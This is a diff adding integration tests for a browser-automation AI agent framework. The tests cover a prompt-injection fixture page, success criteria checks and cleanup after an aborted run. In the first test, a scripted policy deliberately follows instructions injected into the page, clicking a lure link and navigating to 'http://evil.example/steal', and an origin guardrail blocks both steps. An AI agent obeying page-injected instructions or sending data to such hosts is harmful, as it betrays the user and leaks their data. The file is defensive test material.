@@ -1,0 +1,109 @@
+import { type AgentTask, BrowserDriver, decodeAgentTask, Store } from "@sextant/core"
+import { type FixtureSite, startFixtureSite } from "@sextant/fixture-site"
+import type { StepDecision } from "@sextant/planner"
+import { Planner } from "@sextant/planner"
+import { layerMemoryStore, makeMemoryStore } from "@sextant/testing"
+import { layer as browserLayer } from "@sextant/webdriverio"
+import { Effect, Layer, ManagedRuntime } from "effect"
+import { afterAll, beforeAll, describe, expect, it } from "vitest"
+import { runAgent, runPlan } from "../src/index.ts"
+import { browserProcesses } from "./support/Processes.ts"
+import { noReplanner, resumePlan } from "./support/ResumePlan.ts"
+import { scriptedPolicy, testTools } from "./support/TestTools.ts"
+
+let site: FixtureSite
+let browser: ManagedRuntime.ManagedRuntime<BrowserDriver, unknown>
+
+beforeAll(async () => {
+  site = await startFixtureSite({ port: 0 })
+  browser = ManagedRuntime.make(browserLayer({}))
+  await browser.runPromise(Effect.void)
+})
+
+afterAll(async () => {
+  await browser.dispose()
+  await site.close()
+})
+
+const task = (input: Record<string, unknown>): AgentTask => Effect.runSync(decodeAgentTask(input))
+const usage = { prompt: 0, completion: 0, total: 0 }
+
+describe("the /injection page in Chromium", () => {
+  it("a policy that follows the injected instructions is stopped by the origin guardrail", async () => {
+    // The policy does what the page says: first it clicks the injected link, then it types the URL.
+    const follow = (input: { outline: string }): Effect.Effect<StepDecision> =>
+      Effect.sync(() => {
+        const ref = /link "Continue to the verification page" \[ref=(e\d+)\]/.exec(input.outline)?.[1]
+        return { toolCalls: [{ name: "click", args: { target: ref ?? "#missing" } }], taskComplete: false, history: [], usage }
+      })
+    const { policy, inputs } = scriptedPolicy([
+      follow,
+      { toolCalls: [{ name: "navigate", args: { url: "http://evil.example/steal" } }], usage },
+      { toolCalls: [{ name: "stop", args: {} }], usage },
+    ])
+    const result = await browser.runPromise(
+      runAgent(task({ goal: "read the reviews", startUrl: `${site.url}/injection` }), policy, {
+        tools: testTools,
+        noOpBackoffMs: 10,
+      }).pipe(Effect.provide(layerMemoryStore)),
+    )
+    expect(inputs[0]?.outline).toContain("Continue to the verification page")
+    expect(result.observations.map((observation) => observation.error?.reason)).toEqual([
+      "GuardrailViolation",
+      "GuardrailViolation",
+    ])
+    expect(result.observations.map((observation) => observation.message)).toEqual([
+      expect.stringContaining("allowed-origins"),
+      expect.stringContaining("allowed-origins"),
+    ])
+    const url = await browser.runPromise(BrowserDriver.use((driver) => driver.currentUrl))
+    expect(new URL(url).origin).toBe(site.url)
+  })
+
+  it("checks success criteria on the real page", async () => {
+    const plan = resumePlan(site.url, 1)
+    plan.steps[1]?.successCriteria.push({ type: "textPresent", text: "Page 1 of" }, { type: "elementExists", selector: "nav, a" })
+    const result = await browser.runPromise(
+      runPlan(task({ goal: "products page 1", startUrl: `${site.url}/products` }), plan, { tools: testTools }).pipe(
+        Effect.provide(Layer.merge(layerMemoryStore, Layer.succeed(Planner, noReplanner))),
+      ),
+    )
+    expect(result.status).toBe("COMPLETED")
+    expect((result.output as ReadonlyArray<unknown>).length).toBe(12)
+  })
+})
+
+describe("interruption", () => {
+  it("aborting a run closes its browser session, leaves no Chromium or ChromeDriver behind and records CANCELLED", async () => {
+    const controller = new AbortController()
+    const store = makeMemoryStore()
+    const storeLayer = Layer.succeed(Store, store)
+    const running = Effect.runPromise(
+      runPlan(task({ goal: "collect every product", startUrl: `${site.url}/products` }), resumePlan(site.url, 3), {
+        tools: testTools,
+        runId: "aborted-run",
+      }).pipe(Effect.provide(Layer.mergeAll(browserLayer({}), storeLayer, Layer.succeed(Planner, noReplanner)))),
+      { signal: controller.signal },
+    )
+    const before = browserProcesses(process.pid).length
+    let during = before
+    const deadline = Date.now() + 30_000
+    while (Date.now() < deadline) {
+      const steps = await Effect.runPromise(store.listSteps("aborted-run"))
+      if (steps.some((step) => step.state === "succeeded")) break
+      await new Promise((resolve) => setTimeout(resolve, 50))
+    }
+    during = browserProcesses(process.pid).length
+    controller.abort()
+    await expect(running).rejects.toBeDefined()
+    expect(during).toBeGreaterThan(before)
+    // Chromium's helper processes exit a moment after the browser; give them up to 5 s.
+    const settleBy = Date.now() + 5_000
+    while (browserProcesses(process.pid).length > before && Date.now() < settleBy) {
+      await new Promise((resolve) => setTimeout(resolve, 100))
+    }
+    expect(browserProcesses(process.pid).map((entry) => entry.command)).toHaveLength(before)
+    const run = await Effect.runPromise(store.getRun("aborted-run"))
+    expect(run.status).toBe("CANCELLED")
+  })
+})
